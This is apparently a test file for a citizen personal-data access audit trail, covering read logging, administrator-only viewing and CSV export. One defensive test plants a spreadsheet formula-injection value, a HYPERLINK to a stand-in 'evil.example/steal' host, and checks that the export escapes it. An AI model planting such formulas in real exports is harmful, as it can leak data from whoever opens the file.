import type { PlatformEvent } from '@czn/events';
import {
  CLIENT_ADDRESS_HEADER,
  GATEWAY,
  internalClient,
  PERSONAL_DATA_EVENT,
  type PersonalDataAuditRecord,
} from '@czn/kernel';
import {
  graphqlRequest,
  someone,
  startSubgraphHarness,
  TEST_INTERNAL_SECRET,
  type SubgraphHarness,
} from '@czn/testing';
import { randomUUID } from 'node:crypto';
import { Pool } from 'pg';
import { identity } from '../../subgraph';
import { newAccount, type TestAccount } from '../../test/accounts';
import { PersonalDataAccessEntry, PersonalDataAuditCursor } from './personal-data-access.entity';
import { copyAuditEvents } from './personal-data-log';

let harness: SubgraphHarness;
/** The registrar whose reads the trails record; only read, never changed. */
let registrar: TestAccount;
beforeAll(async () => {
  harness = await startSubgraphHarness(identity);
  registrar = await newAccount(harness, {
    roles: ['REGISTRAR'],
    jobCenterId: randomUUID(),
    fullName: 'Смирнова Ольга Петровна',
  });
});
afterAll(() => harness.stop());

const admin = someone.staff(['ADMIN']);

const REQUEST_ACCESS = `mutation($subject: PersonalDataSubjectInput!, $reason: String!) {
  requestPersonalDataAccess(subject: $subject, reason: $reason) { expiresAt }
}`;

/**
 * The administrator's centre asks access to the person: alone, identity knows no appeals or referrals, so a
 * grant is the centre's only relationship with the person.
 */
async function askAccess(personId: string) {
  const { errors } = await harness.request(admin, REQUEST_ACCESS, {
    subject: { personId },
    reason: 'Проверка журнала по обращению гражданина',
  });
  expect(errors).toBeUndefined();
}

let snilsSerial = 100;
/** A citizen of this test alone, so that its trail holds only what the test did. */
async function newCitizen() {
  const snils = `555-666-${String(snilsSerial++).padStart(3, '0')} 00`;
  const person = await newAccount(harness, {
    roles: ['CITIZEN'],
    fullName: 'Кузнецова Мария Павловна',
    phone: '+79130001122',
    snils,
    birthDate: '1990-04-12',
    passport: {
      series: '0105',
      number: '123456',
      issuedBy: 'ГУ МВД России по Алтайскому краю',
      issuedOn: '2010-05-20',
    },
  });
  return { id: person.id, snils, viewer: person.viewer };
}

const trailOf = (subjectId: string) =>
  harness.running.orm.em
    .fork()
    .find(PersonalDataAccessEntry, { subjectId }, { orderBy: { occurredAt: 'asc', id: 'asc' } });

const ENTITIES = `query DeskApplicant($r: [_Any!]!) {
  _entities(representations: $r) { ... on User { fullName snils phone registrationAddress passport { number } } }
}`;

test('a read through _entities writes who, role, whose data, which data and the operation', async () => {
  const person = await newCitizen();
  const { errors } = await harness.request(registrar.viewer, ENTITIES, {
    r: [{ __typename: 'User', id: person.id }],
  });
  expect(errors).toBeUndefined();

  const [entry, ...more] = await trailOf(person.id);
  expect(more).toEqual([]);
  expect(entry).toMatchObject({
    action: 'READ',
    // The address is empty: nothing of it was shown, so nothing of it is recorded.
    kinds: ['PASSPORT', 'SNILS', 'PHONE'],
    actorId: registrar.id,
    actorRoles: ['REGISTRAR'],
    actorJobCenterId: registrar.viewer.jobCenterId,
    service: 'identity',
    operation: 'Просмотр профиля гражданина',
    graphqlOperation: 'query DeskApplicant: _entities',
  });
});

test('a read through a query is written with the person as the actor; fields that are not personal data are not', async () => {
  const person = await newCitizen();
  await harness.request(person.viewer, '{ me { fullName email } }');
  expect(await trailOf(person.id)).toEqual([]);

  await harness.request(person.viewer, 'query Settings { me { fullName birthDate snils } }');
  const trail = await trailOf(person.id);
  expect(
    trail.map(({ action, kinds, actorId, graphqlOperation }) => ({
      action,
      kinds,
      actorId,
      graphqlOperation,
    })),
  ).toEqual([
    {
      action: 'READ',
      kinds: ['SNILS', 'BIRTH_DATE'],
      actorId: person.id,
      graphqlOperation: 'query Settings: me',
    },
  ]);
});

test('data withheld from the caller leaves no trace: another citizen reads nothing', async () => {
  const person = await newCitizen();
  const other = await harness.request(someone.citizen(), ENTITIES, {
    r: [{ __typename: 'User', id: person.id }],
  });
  expect(JSON.stringify(other.data)).not.toContain(person.snils);
  expect(await trailOf(person.id)).toEqual([]);
});

const AUDIT = `query($subject: PersonalDataSubjectInput!) {
  personalDataAudit(subject: $subject, page: { limit: 10 }) {
    person { id fullName }
    total
    entries { action kinds operation graphqlOperation actorRoles actor { fullName } }
  }
}`;

test('the administrator reads a person’s trail by SNILS, newest first; other staff and citizens may not', async () => {
  const person = await newCitizen();
  const digits = person.snils.replace(/\D/g, '');
  const before = await harness.request(admin, AUDIT, { subject: { snils: digits } });
  const unknown = await harness.request(admin, AUDIT, { subject: { snils: '000-000-000 01' } });
  expect(before.errors?.[0]?.extensions?.['code']).toBe('NOT_FOUND');
  expect(before.errors?.[0]?.message).toBe(unknown.errors?.[0]?.message);

  await askAccess(person.id);
  await harness.request(registrar.viewer, ENTITIES, { r: [{ __typename: 'User', id: person.id }] });
  await harness.request(person.viewer, 'query Settings { me { phone } }');

  const { data, errors } = await harness.request(admin, AUDIT, { subject: { snils: digits } });
  expect(errors).toBeUndefined();
  expect(data!['personalDataAudit']).toEqual({
    person: { id: person.id, fullName: 'Кузнецова Мария Павловна' },
    total: 3,
    entries: [
      {
        action: 'READ',
        kinds: ['PHONE'],
        operation: 'Просмотр своего профиля',
        graphqlOperation: 'query Settings: me',
        actorRoles: ['CITIZEN'],
        actor: { fullName: 'Кузнецова Мария Павловна' },
      },
      {
        action: 'READ',
        kinds: ['PASSPORT', 'SNILS', 'PHONE'],
        operation: 'Просмотр профиля гражданина',
        graphqlOperation: 'query DeskApplicant: _entities',
        actorRoles: ['REGISTRAR'],
        actor: { fullName: 'Смирнова Ольга Петровна' },
      },
      {
        action: 'ACCESS_REQUEST',
        kinds: [],
        operation: expect.stringMatching(
          /^Запрос доступа из ЦЗН без обращения или направления, до .+: Проверка журнала по обращению гражданина$/,
        ),
        graphqlOperation: 'mutation: requestPersonalDataAccess',
        actorRoles: ['ADMIN'],
        actor: null,
      },
    ],
  });

  for (const refused of [registrar.viewer, person.viewer]) {
    const attempt = await harness.request(refused, AUDIT, { subject: { personId: person.id } });
    expect(attempt.errors?.[0]?.extensions?.['code']).toBe('FORBIDDEN');
  }
  const both = await harness.request(admin, AUDIT, { subject: { personId: person.id, snils: digits } });
  expect(both.errors?.[0]?.message).toMatch(/одно из двух/);
});

test('the trail exports as CSV for Russian spreadsheets', async () => {
  const person = await newCitizen();
  await askAccess(person.id);
  await harness.request(registrar.viewer, ENTITIES, { r: [{ __typename: 'User', id: person.id }] });
  const { data, errors } = await harness.request(
    admin,
    'query($subject: PersonalDataSubjectInput!) { personalDataAuditCsv(subject: $subject) }',
    { subject: { personId: person.id } },
  );
  expect(errors).toBeUndefined();
  const [header, row, request, end, ...rest] = (data!['personalDataAuditCsv'] as string).split('\r\n');
  expect(rest).toEqual([]);
  expect(end).toBe('');
  expect(header!.startsWith('\uFEFFКогда (UTC);Действие;Данные;Кто;')).toBe(true);
  expect(row!.split(';').slice(1, 6)).toEqual([
    'Просмотр',
    'Паспорт, СНИЛС, Телефон',
    'Смирнова Ольга Петровна',
    registrar.id,
    'Регистратор ЦЗН',
  ]);
  expect(request!.split(';').slice(1, 3)).toEqual(['Запрос доступа', '']);
});

test('a planted client address comes out of the CSV as text, not a formula', async () => {
  const person = await newCitizen();
  const planted = '=HYPERLINK("http://evil.example/steal")';
  const gateway = internalClient({ caller: GATEWAY, secret: TEST_INTERNAL_SECRET });
  await graphqlRequest(
    harness.running.url,
    ENTITIES,
    { r: [{ __typename: 'User', id: person.id }] },
    {
      ...(await gateway.headers('identity', registrar.viewer)),
      [CLIENT_ADDRESS_HEADER]: planted,
    },
  );
  // The administrator's centre has no relationship with this person: it asks for access first.
  await harness.request(admin, REQUEST_ACCESS, {
    subject: { personId: person.id },
    reason: 'Проверка выгрузки журнала',
  });
  const { data } = await harness.request(
    admin,
    'query($subject: PersonalDataSubjectInput!) { personalDataAuditCsv(subject: $subject) }',
    { subject: { personId: person.id } },
  );
  const row = (data!['personalDataAuditCsv'] as string)
    .split('\r\n')
    .find((line) => line.includes('HYPERLINK'));
  expect(row!.endsWith(`;"'=HYPERLINK(""http://evil.example/steal"")"`)).toBe(true);
});

test('audit events of another subgraph are copied once, however often they come', async () => {
  const person = await newCitizen();
  const record: PersonalDataAuditRecord = {
    occurredAt: '2026-11-20T03:00:00.000Z',
    service: 'citizen',
    operation: 'Просмотр обращения 2026-000012',
    graphqlOperation: 'query DeskAppeal__citizen__0: appeal',
    requestId: randomUUID(),
    clientAddress: '10.0.0.7',
    actor: { userId: registrar.id, roles: ['REGISTRAR'], jobCenterId: registrar.viewer.jobCenterId },
    accesses: [{ subjectId: person.id, action: 'READ', kinds: ['PHONE'] }],
  };
  const stream = `test_${randomUUID().slice(0, 8)}`;
  const event = (id: string, type = PERSONAL_DATA_EVENT): PlatformEvent => ({
    id,
    stream,
    type,
    entityType: 'PersonalDataAccess',
    entityId: randomUUID(),
    audience: { userIds: [], jobCenterIds: [] },
    occurredAt: record.occurredAt,
    data: { ...record },
  });
  const batch = [event('41', 'SUBMITTED'), event('42')];
  const db = new Pool({ connectionString: harness.databaseUrl, max: 1 });
  try {
    await copyAuditEvents(db, stream, batch);
    await copyAuditEvents(db, stream, batch);
  } finally {
    await db.end();
  }

  const trail = await trailOf(person.id);
  expect(trail).toHaveLength(1);
  expect(trail[0]).toMatchObject({
    service: 'citizen',
    kinds: ['PHONE'],
    operation: 'Просмотр обращения 2026-000012',
    graphqlOperation: 'query DeskAppeal__citizen__0: appeal',
    clientAddress: '10.0.0.7',
    sourceStream: stream,
    sourceEventId: '42',
  });
  const cursor = await harness.running.orm.em.fork().findOneOrFail(PersonalDataAuditCursor, { stream });
  expect(cursor.lastEventId).toBe('42');
});
